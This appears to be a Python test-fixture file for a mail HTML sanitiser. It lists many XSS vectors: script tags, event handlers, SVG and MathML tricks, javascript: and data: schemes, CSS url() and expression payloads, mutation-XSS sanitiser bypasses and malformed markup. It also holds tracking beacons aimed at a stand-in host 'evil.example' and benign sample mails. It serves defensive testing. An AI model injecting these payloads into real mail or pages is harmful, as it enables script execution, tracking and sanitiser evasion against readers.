"""Hostile mail HTML: script vectors, tracking beacons and parser tricks (issue 16, "Hostile mail").

Every payload that would run script runs ``PWN`` (the harness puts in a statement that pushes
the payload's number onto ``top.__pwned``); every beacon points at ``EVIL``, a host that is not
the test server.  ``CID`` is the one inline part the test message has.  Sources: OWASP's XSS
filter evasion cheat sheet, the html5sec.org vectors, and the published DOMPurify/sanitiser
mutation-XSS bypasses, written afresh for mail.
"""

from __future__ import annotations

import base64

EVIL = "http://evil.example"
CID = "logo@ourmail.test"


def _b64(markup: str) -> str:
    return base64.b64encode(markup.encode()).decode()


# Inside base64 the harness cannot put the payload's number: these push -1.
_DATA_HTML = _b64("<script>top.__pwned.push(-1)</script>")
_DATA_SVG = _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned.push(-1)"/>')

SCRIPT = [
    "<script>PWN</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "<scr<script>ipt>PWN</scr</script>ipt>",
    f'<script/xss src="{EVIL}/x.js"></script>',
    "<<script>PWN;//<</script>",
    "<script>/*</script><script>*/PWN</script>",
    "<div><table><tr><td><script>PWN</td></tr>",
    '<img """><script>PWN</script>">',
    "\x00<script>PWN</script>",
]

EVENT_HANDLERS = [
    '<img src=x onerror="PWN">',
    "<img src=x onerror=PWN//",
    '<body onload="PWN">',
    '<div onmouseover="PWN" style="width:100%;height:100%">hover</div>',
    '<input autofocus onfocus="PWN">',
    '<details open ontoggle="PWN"><summary>s</summary></details>',
    '<img src=x ONERROR   =  "PWN">',
    "<img/src=x/onerror=PWN>",
    '<video><source onerror="PWN"></video>',
    '<audio src=x onerror="PWN">',
    '<marquee onstart="PWN">m</marquee>',
    "<select autofocus onfocus=PWN></select>",
    "<textarea autofocus onfocus=PWN></textarea>",
    '<a href="#" onclick="PWN">click</a>',
    "<img src=x\nonerror=PWN>",
    "<img src=x onerror=\u2028PWN>",
    '<img src="cid:logo@ourmail.test" onload="PWN">',
    '<style onload="PWN"></style>',
    '<body onpageshow="PWN">',
]

SVG_MATH = [
    '<svg onload="PWN">',
    "<svg><script>PWN</script></svg>",
    '<svg><a xlink:href="javascript:PWN"><text x=20 y=20>X</text></a></svg>',
    '<svg><animate onbegin="PWN" attributeName=x dur=1s>',
    f'<svg><image href="{EVIL}/svg.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=PWN>",
    '<math href="javascript:PWN">CLICK</math>',
    "<svg><style><img src=x onerror=PWN></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=PWN>">',
    '<svg><foreignObject><img src=x onerror="PWN"></foreignObject></svg>',
    '<svg><set attributeName="onload" to="PWN"/></svg>',
]

SCHEMES = [
    '<a href="javascript:PWN">x</a>',
    '<a href="JaVaScRiPt:PWN">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;PWN">x</a>',
    '<a href="jav&#x09;ascript:PWN">x</a>',
    '<a href=" &#14;  javascript:PWN">x</a>',
    '<a href="java\x00script:PWN">x</a>',
    '<a href="&#x6A;avascript&colon;PWN">x</a>',
    f'<a href="data:text/html;base64,{_DATA_HTML}">x</a>',
    f'<img src="data:image/svg+xml;base64,{_DATA_SVG}">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:PWN"></iframe>',
    '<iframe srcdoc="<script>PWN</script>"></iframe>',
    '<object data="javascript:PWN"></object>',
    f'<object data="data:text/html;base64,{_DATA_HTML}"></object>',
    f'<embed src="data:text/html;base64,{_DATA_HTML}">',
    f'<embed src="{EVIL}/x.swf">',
    '<form action="javascript:PWN"><input type=submit></form>',
    '<button formaction="javascript:PWN">b</button>',
    '<frameset><frame src="javascript:PWN"></frameset>',
    '<isindex action="javascript:PWN" type=image>',
    '<a href="https://ok.example/" target="_top">top</a>',
]

CSS = [
    '<div style="width:expression(PWN)">x</div>',
    f'<div style="background:url({EVIL}/bg.png)">x</div>',
    f'<div style="background-image:u\\72l({EVIL}/esc.png)">x</div>',
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>body{{background:url({EVIL}/s.png)}}</style>",
    f'<div style="behavior:url({EVIL}/x.htc)">x</div>',
    f'<div style="-moz-binding:url({EVIL}/x.xml#x)">x</div>',
    f'<ul style="list-style-image:url({EVIL}/l.png)"><li>x</li></ul>',
    f"<div style=\"background:image-set('{EVIL}/is.png' 1x)\">x</div>",
    '<div style="background:url(javascript:PWN)">x</div>',
    f'<div style="background:url(&quot;{EVIL}/q.png&quot;)">x</div>',
    f'<div style="background: url(/*x*/{EVIL}/c.png)">x</div>',
    f'<div style="border-image:url({EVIL}/b.png) 30">x</div>',
    f'<div style="font-family:x;}}</style><img src={EVIL}/st.png>">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">fake</div>',
    f'<link rel=stylesheet href="{EVIL}/l.css">',
    f"<div style=\"background:var(--x, url('{EVIL}/var.png'))\">x</div>",
]

DOCUMENT = [
    f'<base href="{EVIL}/"><img src="relative.png"><a href="rel">rel</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:PWN">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    f'<link rel=prefetch href="{EVIL}/prefetch">',
    f'<link rel=dns-prefetch href="{EVIL}">',
    f'<html><head><title>t</title><link rel=icon href="{EVIL}/i.ico"></head><body>b</body></html>',
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=PWN>">',
    "<template><img src=x onerror=PWN></template>",
    '<!--<img src="--><img src=x onerror=PWN//">',
    "<!-- --!><img src=x onerror=PWN>-->",
    "<p><![CDATA[<img src=x onerror=PWN>]]></p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN>",
    "<svg><p><style><img src=x onerror=PWN></style></p></svg>",
    "<xmp><img src=x onerror=PWN></xmp>",
    "<title><img src=x onerror=PWN></title>",
    "<listing>&lt;img src=x onerror=PWN&gt;</listing>",
    '<noembed><img title="</noembed><img src=x onerror=PWN>"></noembed>',
    '<a href="https://ok.example/" title="</a><img src=x onerror=PWN>">ok</a>',
    '<textarea><img title="</textarea><img src=x onerror=PWN>"></textarea>',
    '<math><mi><mglyph><svg><mtext><style><img src=x onerror="PWN">',
    "<table><caption><svg><desc><style></style></desc></svg><img src=x onerror=PWN>",
]

TRACKING = [
    f'<img src="{EVIL}/pixel.gif" width=1 height=1>',
    '<img src="https://evil.example/pixel.gif?u=reader">',
    '<img src="//evil.example/proto-relative.gif">',
    f'<img srcset="{EVIL}/srcset.gif 1x">',
    f'<picture><source srcset="{EVIL}/p.webp"><img src="cid:{CID}"></picture>',
    f'<table background="{EVIL}/tbg.png"><tr><td background="{EVIL}/tdbg.png">x</td></tr></table>',
    f'<body background="{EVIL}/bodybg.png">b',
    f'<video poster="{EVIL}/poster.png"></video>',
    f'<input type="image" src="{EVIL}/input.png">',
    f'<a ping="{EVIL}/ping" href="https://ok.example/">x</a>',
    f'<img src=x lowsrc="{EVIL}/low.gif" dynsrc="{EVIL}/dyn.avi">',
    f'<img src="{EVIL}/unclosed.gif',
    f"<iframe src={EVIL}/frame>",
    f'<audio autoplay src="{EVIL}/a.mp3"></audio>',
    f'<object data="{EVIL}/o.pdf"></object>',
    f'<img src="http://127.0.0.1:1/{EVIL}/port-scan.gif">',
]

MALFORMED = [
    '<a href="javascript:PWN"',
    '<img src="x" onerror="PWN"',
    "<</p><img src=x onerror=PWN>",
    "<div <img src=x onerror=PWN>>",
    '<a href="https://ok.example/"<img src=x onerror=PWN>>x</a>',
    "<img src=`x` onerror=`PWN`>",
]

CORPUS: list[str] = (
    SCRIPT + EVENT_HANDLERS + SVG_MATH + SCHEMES + CSS + DOCUMENT + MUTATION + TRACKING + MALFORMED
)

# Mail that must come through with its text and structure.
NEWSLETTER = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title>
<style>.btn {{ color: #fff; }}</style></head>
<body style="margin:0;padding:0;background-color:#f4f4f4">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4">
 <tr><td align="center" style="padding:20px 0">
  <table width="600" cellpadding="0" cellspacing="0" style="background-color:#ffffff;border:1px solid #dddddd">
   <tr><td><img src="cid:{CID}" alt="Municipality logo" width="200" height="50"></td></tr>
   <tr><td style="padding:16px;font-family:Arial, sans-serif;font-size:14px;color:#333333">
    <h1 style="font-size:22px;margin:0 0 12px">Council newsletter</h1>
    <p>The library opens on Saturday.</p>
    <a href="https://city.example/library" style="color:#0066cc;text-decoration:underline">Opening hours</a>
   </td></tr>
   <tr><td bgcolor="#eeeeee" style="padding:8px;font-size:11px">
    <a href="https://city.example/unsubscribe">Unsubscribe</a>
    <img src="https://tracker.example/open.gif" width="1" height="1" alt="">
   </td></tr>
  </table>
 </td></tr>
</table></body></html>"""

THUNDERBIRD = """<html><head><meta http-equiv="content-type" content="text/html; charset=UTF-8"></head>
<body><p>Dear colleagues,</p><p>please find the <b>minutes</b> below.</p>
<div class="moz-cite-prefix">On 1/12/2026 Maria wrote:<br></div>
<blockquote type="cite" cite="mid:abc@city.example"><p>Can we meet on Tuesday?</p></blockquote>
<ul><li>Budget</li><li>Parks</li></ul>
<div class="moz-signature">-- <br><i>Yannis</i></div></body></html>"""

OUTLOOK = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm;} --></style>
<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head>
<body lang=EL link="#0563C1"><div class=WordSection1>
<p class=MsoNormal><span style='font-size:11.0pt;font-family:"Calibri",sans-serif'>Καλημέρα σας,<o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-US style='color:#1F497D'>The report is attached.</span></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none'>
<tr><td width=200 valign=top style='width:150pt;border:solid windowtext 1.0pt;padding:0cm 5.4pt'>
<p class=MsoNormal>Quarter</p></td><td width=200 valign=top><p class=MsoNormal>Total</p></td></tr></table>
</div></body></html>"""
